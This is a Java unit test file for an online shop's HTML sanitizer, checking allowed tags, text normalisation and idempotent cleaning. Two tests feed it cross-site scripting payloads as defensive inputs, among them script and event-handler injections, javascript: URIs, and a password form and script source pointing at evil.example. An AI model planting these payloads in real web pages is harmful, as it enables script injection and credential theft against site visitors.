package shop.vitrine.web.text;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class RichTextTest {
    @Test
    void keepsTheFewElementsThatAPageShows() {
        assertThat(RichText.DESCRIPTION.clean(
                        "<div class='x'>A <b>bold</b> <i>word</i><br>next</div><h2>More</h2><ul><li>one</ul>"))
                .isEqualTo("<p>A <strong>bold</strong> <em>word</em><br />next</p><h3>More</h3><ul><li>one</li></ul>");
    }

    @Test
    void dropsWhatCouldHarm() {
        String clean = RichText.DESCRIPTION.clean(
                "<p onclick=alert(1)>Hi<script>alert(1)</script><a href='javascript:x'>link</a>"
                        + "<img src=x onerror=alert(1)><style>p{}</style><iframe src=//evil></iframe></p>");
        assertThat(clean).isEqualTo("<p>Hilink</p>");
    }

    @Test
    void makesParagraphsOfPlainText() {
        assertThat(RichText.DESCRIPTION.clean("First line\nsecond line\n\nNew paragraph & more < 5 kg"))
                .isEqualTo("<p>First line<br />second line</p><p>New paragraph &amp; more &lt; 5 kg</p>");
        assertThat(RichText.DESCRIPTION.clean("Cocona&reg; fabric")).isEqualTo("<p>Cocona® fabric</p>");
    }

    @Test
    void readsHtmlThatWasEscapedOnceMore() {
        assertThat(RichText.DESCRIPTION.clean("&lt;p&gt;Soft &amp;amp; warm&lt;/p&gt;"))
                .isEqualTo("<p>Soft &amp; warm</p>");
        assertThat(RichText.DESCRIPTION.clean("&lt;script&gt;alert(1)&lt;/script&gt;x"))
                .isEqualTo("x");
    }

    @Test
    void isTheSameTheSecondTime() {
        String once = RichText.DESCRIPTION.clean("<p>&bull; One – “two” = 3 @ 4</p><p> </p>");
        assertThat(RichText.DESCRIPTION.clean(once)).isEqualTo(once);
        assertThat(once).doesNotContain("<p> </p>");
    }

    @Test
    void mendsWindowsCharactersAndDropsControls() {
        assertThat(RichText.DESCRIPTION.clean("a\u0097b\u0000c\u202ed")).isEqualTo("<p>a—bcd</p>");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<img src=x onerror=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<p style=\"background:url(javascript:alert(1))\">x</p>",
                "<a href=\"java\nscript:alert(1)\">x</a>",
                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                "<iframe src=\"https://evil.example\"></iframe>",
                "<object data=x></object><embed src=x>",
                "<form action=//evil.example><input name=password><button>Go</button></form>",
                "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
                "<p onmouseover=\"alert(1)\" class=x id=y>x</p>",
                "<div><style>@import url(//evil.example)</style></div>",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "&lt;img src=x onerror=alert(1)&gt;",
                "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
                "<<script>script>alert(1)</script>",
                "<p><a href=\"https://evil.example\">x</a></p>",
                "<video src=x onloadstart=alert(1)></video>"
            })
    void nothingThatActsIsLeftOfADescription(String harmful) {
        String clean = RichText.DESCRIPTION.clean(harmful);
        assertThat(clean.replaceAll("</?(p|br|ul|ol|li|strong|em|h3)( /)?>", ""))
                .as(clean)
                .doesNotContain("<", ">");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Plain",
                "Two\n\nparagraphs\nand a line",
                "<p>One</p><ul><li>a</li><li>b</li></ul>",
                "<h1>Title</h1>text<br>more",
                "5 < 6 && 7 > 2",
                "&reg; &amp; &lt;p&gt;x&lt;/p&gt;",
                "<b><i>both</i></b>",
                "<p>unclosed <ul><li>nested <ol><li>x",
                "<table><tr><td>cell</td></tr></table>",
                "<p></p><p> </p>x"
            })
    void cleaningOnceMoreChangesNothing(String text) {
        for (RichText kind : List.of(RichText.DESCRIPTION, RichText.ARTICLE)) {
            String clean = kind.clean(text);
            if (clean.contains("<")) assertThat(kind.clean(clean)).isEqualTo(clean);
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"One line", "Two\nlines", "Two\n\nparagraphs", "One\ntwo\n\nthree\nfour"})
    void whatWasTypedPlainlyIsShownPlainlyInItsForm(String typed) {
        assertThat(RichText.toInput(RichText.DESCRIPTION.clean(typed))).isEqualTo(typed);
    }

    @Test
    void whatHasMoreThanParagraphsIsShownAsItIs() {
        String list = "<ul><li>One</li></ul>";
        assertThat(RichText.toInput(list)).isEqualTo(list);
        assertThat(RichText.toInput("<p>a &amp; b</p>")).isEqualTo("<p>a &amp; b</p>");
        assertThat(RichText.toInput(null)).isNull();
    }

    @Test
    void noWordIsLost() {
        String clean = RichText.DESCRIPTION.clean(
                "<table><tr><td>Height</td><td>42 cm</td></tr></table><font color=red>Red</font> <u>line</u>");
        assertThat(clean.replaceAll("<[^>]*>", " ")).contains("Height", "42 cm", "Red", "line");
    }

    @Test
    void whatLooksLikeAnElementAndIsNoneIsMeantToBeRead() {
        assertThat(RichText.DESCRIPTION.clean("<approx> 20 cm")).isEqualTo("<p>&lt;approx&gt; 20 cm</p>");
    }

    @Test
    void onlyEmptyElementsAreNothing() {
        assertThat(RichText.DESCRIPTION.clean("<p><strong> </strong></p><ul><li></li></ul>"))
                .isEmpty();
        assertThat(RichText.DESCRIPTION.clean("<br><br>")).isEmpty();
        assertThat(RichText.DESCRIPTION.clean(null)).isEmpty();
    }
}
